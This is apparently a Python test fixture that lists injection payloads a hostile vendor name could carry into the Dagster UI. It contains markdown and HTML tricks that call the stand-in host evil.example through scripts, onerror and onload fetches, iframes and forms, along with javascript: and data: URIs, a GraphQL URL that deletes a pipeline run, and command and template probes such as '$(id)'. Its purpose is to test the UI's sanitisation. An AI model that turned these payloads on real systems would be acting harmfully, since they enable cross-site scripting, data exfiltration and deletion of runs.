"""What somebody who may write a vendor's name in BILL could try on whoever opens the Dagster UI."""

from __future__ import annotations

EVIL = "evil.example"
"""Where nothing may ever be asked for."""


def payloads(run_id: str) -> list[str]:
    """One text per way out of text; ``run_id`` is a run that a mutation would delete."""
    mutation = f'/graphql?query=mutation{{deletePipelineRun(runId:"{run_id}"){{__typename}}}}'
    escaped = f"/graphql?query=mutation%7BdeletePipelineRun(runId:%22{run_id}%22)%7B__typename%7D%7D"
    return [
        f"![x]({escaped})",
        f"![x](<{mutation}>)",
        f"[delete]({escaped})",
        f"![x](https://{EVIL}/image.png)",
        f"[click](https://{EVIL}/)",
        f"[ref][r]\n\n[r]: https://{EVIL}/ref",
        f"![ref]\n\n[ref]: //{EVIL}/ref.png 'title'",
        f"<https://{EVIL}/autolink>",
        f"https://{EVIL}/bare www.{EVIL} pay@{EVIL}",
        "[js](javascript:fetch('/graphql'))",
        "[js](&#106;avascript:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"<script src=https://{EVIL}/x.js></script>",
        f'<img src="https://{EVIL}/x.png" onerror="fetch(`//{EVIL}`)">',
        f"<svg onload=fetch('//{EVIL}')><image href=https://{EVIL}/x.svg /></svg>",
        f'<iframe src="https://{EVIL}/frame"></iframe>',
        f'<a href="https://{EVIL}/html">html</a>',
        f"<form action=https://{EVIL}/form><button>Approve</button></form>",
        f"<style>@import 'https://{EVIL}/x.css'</style>",
        f"&lt;img src=https://{EVIL}/entity.png&gt; &#60;b&#62;",
        f"`` ` ![x](https://{EVIL}/backtick.png) `",
        f"```\n![x](https://{EVIL}/fence.png)",
        f"line\n\n![x](https://{EVIL}/paragraph.png)\n\n# heading",
        f"a | b |\n|---|---|\n| ![x](https://{EVIL}/cell.png) |",
        f"\\| ![x](https://{EVIL}/pipe.png) |",
        f"\u202e![x](https://{EVIL}/direction.png)\u2066\u200b",
        "**bold** _it_ ~~gone~~ - [ ] task",
        "${7*7} {{7*7}} %0d%0a $(id)",
    ]
